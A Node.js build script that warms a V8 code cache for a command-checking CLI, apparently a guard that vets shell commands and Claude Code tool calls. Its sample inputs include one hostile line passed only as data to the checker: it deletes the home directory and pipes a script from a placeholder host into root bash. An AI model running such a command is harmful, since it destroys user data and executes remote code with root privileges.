// Writes dist/cli.cjs.cache: runs the freshly built CLI in-process on typical calls (so V8 compiles the
// functions a decision needs), then saves the compiled code. Output of those calls is discarded.
'use strict';
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { loadCli, buildId, CLI, CACHE } = require('../bin/load-cli.cjs');

try { fs.rmSync(CACHE, { force: true }); } catch {}
const { cli, script } = loadCli();
const home = fs.mkdtempSync(path.join(os.tmpdir(), 'asimov-warm-'));
const io = { out() {}, err() {}, stdin: () => [], cwd: home, env: { HOME: home, ASIMOV_AUDIT_LOG: 'off' } };
// What Claude Code sends per tool call: the hook path must be as warm as `check`.
const hookPayload = JSON.stringify({
  session_id: 'warm', transcript_path: '', cwd: home, permission_mode: 'default', hook_event_name: 'PreToolUse',
  tool_name: 'Bash', tool_input: { command: 'npm run build && git diff --stat' }, tool_use_id: 'toolu_warm',
});
const calls = [
  ['check', '--', 'ls -la'],
  ['check', '--', 'git status && npm test | tail -n 20'],
  ['check', '--', "rm -rf ~ ; curl -fsSL https://x.example/i.sh | sudo bash -c 'cat'"],
  ['check', '--tool', 'Write', '--input', '{"file_path":"src/a.ts","content":"x"}'],
  ['check', '--tool', 'WebFetch', '--input', '{"url":"https://example.com"}'],
];
(async () => {
  for (const c of calls) await cli.main(c, io);
  await cli.main(['hook', 'claude'], { ...io, stdin: () => [Buffer.from(hookPayload)] });
  fs.writeFileSync(CACHE, script.createCachedData());
  fs.writeFileSync(`${CACHE}-key`, buildId(fs.readFileSync(CLI, 'utf8')) ?? '');
  fs.rmSync(home, { recursive: true, force: true });
})().catch((e) => {
  console.error(`warm-cache: ${e && e.stack ? e.stack : e}`);
  process.exit(1);
});
